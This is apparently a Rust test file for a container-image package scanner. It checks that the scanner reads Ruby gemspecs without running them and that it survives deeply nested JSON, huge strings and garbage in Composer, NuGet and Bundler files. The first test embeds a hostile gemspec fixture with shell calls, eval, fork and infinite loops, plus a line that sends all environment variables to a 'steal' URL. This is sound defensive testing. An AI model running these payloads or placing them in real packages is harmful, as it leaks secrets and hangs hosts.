//! Hostile Ruby, PHP and .NET files: gem specifications that would do harm if anything ran
//! them (customs only reads them), JSON nested past any parser's stack, megabyte strings, and
//! garbage where each format is expected.

use crate::common::{Comp, LayerTar, write_layout};

use super::{has_warning, scan, timed, warnings};

fn gems(inv: &serde_json::Value) -> Vec<(String, String, String)> {
    let mut out: Vec<_> = inv["packages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| {
            (
                p["ecosystem"].as_str().unwrap().to_owned(),
                p["name"].as_str().unwrap().to_owned(),
                p["version"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    out.sort();
    out
}

fn row(eco: &str, name: &str, version: &str) -> (String, String, String) {
    (eco.to_owned(), name.to_owned(), version.to_owned())
}

/// A gemspec is Ruby: one that shells out, writes files, forks and loops forever at load
/// time. customs reads its literals and runs none of it: no marker file appears, the scan ends,
/// and a version only code could compute is a warning naming the file.
#[test]
fn gemspecs_full_of_code_are_read_never_run() {
    timed("gemspecs full of code", || {
        let markers = tempfile::tempdir().unwrap();
        let m = |n: u32| {
            markers
                .path()
                .join(format!("pwned-{n}"))
                .display()
                .to_string()
        };
        let evil = format!(
            r#"# -*- encoding: utf-8 -*-
system("touch {m1}")
`touch {m2}`
File.write("{m3}", "x")
require "open-uri"; URI.open("http://127.0.0.1:9/steal?#{{ENV.to_h}}") rescue nil
Gem::Specification.new do |s|
  s.name = "evil".freeze
  s.version = "6.6.6"
  s.authors = [`touch {m4}; id`.freeze]
  s.licenses = [eval("system('touch {m5}') && 'MIT'")]
  s.summary = %x(touch {m6})
  at_exit {{ system("touch {m7}") }}
  Process.fork {{ loop {{}} }} rescue nil
  exec("sh", "-c", "touch {m8}")
  loop do end
end
"#,
            m1 = m(1),
            m2 = m(2),
            m3 = m(3),
            m4 = m(4),
            m5 = m(5),
            m6 = m(6),
            m7 = m(7),
            m8 = m(8),
        );
        let computed = format!(
            "Gem::Specification.new do |s|\n  s.name = \"worse\"\n  s.version = `touch {}; echo 1.0`.strip\nend\n",
            m(9)
        );
        let layer = LayerTar::new()
            .file(
                "usr/local/bundle/specifications/evil-6.6.6.gemspec",
                evil.as_bytes(),
            )
            .file(
                "usr/local/bundle/specifications/worse-1.0.gemspec",
                computed.as_bytes(),
            )
            .finish();
        let dir = tempfile::tempdir().unwrap();
        write_layout(dir.path(), &[layer], Comp::Gzip);
        let (run, inv) = scan(dir.path());
        let inv = inv.unwrap_or_else(|| panic!("{}", run.stderr));
        assert_eq!(gems(&inv), [row("gem", "evil", "6.6.6")]);
        let evil = &inv["packages"][0];
        // The authors and licences were code, not literals: not reported.
        assert!(
            evil["author"].is_null() && evil["licenses"].is_null(),
            "{evil}"
        );
        assert!(
            has_warning(
                &inv,
                "/usr/local/bundle/specifications/worse-1.0.gemspec",
                "`version` is not a literal (`"
            ),
            "{:?}",
            warnings(&inv)
        );
        let left: Vec<_> = std::fs::read_dir(markers.path()).unwrap().collect();
        assert!(left.is_empty(), "a gemspec was run: {left:?}");
    });
}

/// Each format broken its own way in one layer, beside good files: nesting 100,000 deep,
/// 12 MB strings, garbage. Each broken file is a warning that names it; the good packages, and
/// the good entries of files with one huge entry, are still reported; memory stays under the
/// ceiling.
#[test]
fn broken_composer_nuget_and_bundler_files() {
    timed("broken composer, nuget and bundler files", || {
        let big = "x".repeat(12 << 20);
        let deep_json = format!("{{\"packages\": {}", "[".repeat(100_000));
        let deep_deps = format!("{{\"libraries\": {}", "{\"a\": ".repeat(100_000));
        let garbage: Vec<u8> = (0..65_536u32)
            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
            .collect();
        let huge_lock = format!(
            r#"{{"version": 1, "dependencies": {{"net8.0": {{"{big}": {{"type": "Direct", "resolved": "1.0.0"}}, "Good.Package": {{"type": "Transitive", "resolved": "2.0.0"}}}}}}}}"#
        );
        let huge_gemfile = format!(
            "GEM\n  remote: https://rubygems.org/\n  specs:\n    {big} (1.0)\n    rack (2.2.3)\n"
        );
        let huge_gemspec = format!(
            "Gem::Specification.new do |s|\n  s.description = %q{{{big}}}\n  s.name = \"big\"\n  s.version = \"1.0\"\nend\n"
        );
        let deep_gemspec = format!(
            "Gem::Specification.new do |s|\n  s.name = \"deep\"\n  s.version = %q{{{}}}\nend\n",
            "{".repeat(1 << 20)
        );
        let layer = LayerTar::new()
            .file("srv/php/composer.lock", deep_json.as_bytes())
            .file("srv/php/vendor/composer/installed.json", &garbage)
            .file("srv/dotnet/App.deps.json", deep_deps.as_bytes())
            .file("srv/dotnet/packages.lock.json", huge_lock.as_bytes())
            .file("srv/ruby/Gemfile.lock", huge_gemfile.as_bytes())
            .file(
                "usr/local/bundle/specifications/big-1.0.gemspec",
                huge_gemspec.as_bytes(),
            )
            .file(
                "usr/local/bundle/specifications/deep-1.0.gemspec",
                deep_gemspec.as_bytes(),
            )
            .file("usr/local/bundle/specifications/junk-1.0.gemspec", &garbage)
            .file(
                "srv/good/composer.lock",
                br#"{"packages": [{"name": "acme/good", "version": "1.0.0"}]}"#,
            )
            .finish();
        drop((
            big,
            deep_json,
            deep_deps,
            huge_lock,
            huge_gemfile,
            huge_gemspec,
        ));
        let dir = tempfile::tempdir().unwrap();
        write_layout(dir.path(), &[layer], Comp::Gzip);
        let (run, inv) = scan(dir.path());
        let inv = inv.unwrap_or_else(|| panic!("{}", run.stderr));
        assert_eq!(
            gems(&inv),
            [
                row("composer", "acme/good", "1.0.0"),
                row("gem", "big", "1.0"),
                row("gem", "rack", "2.2.3"),
                row("nuget", "Good.Package", "2.0.0"),
            ]
        );
        for (file, problem) in [
            ("/srv/php/composer.lock", "recursion limit exceeded"),
            (
                "/srv/php/vendor/composer/installed.json",
                "installed.json: ",
            ),
            ("/srv/dotnet/App.deps.json", "recursion limit exceeded"),
            (
                "/usr/local/bundle/specifications/deep-1.0.gemspec",
                "`version` is not a literal",
            ),
            ("/usr/local/bundle/specifications/junk-1.0.gemspec", ""),
        ] {
            assert!(
                has_warning(&inv, file, problem),
                "{file}: {:?}",
                warnings(&inv)
            );
        }
    });
}
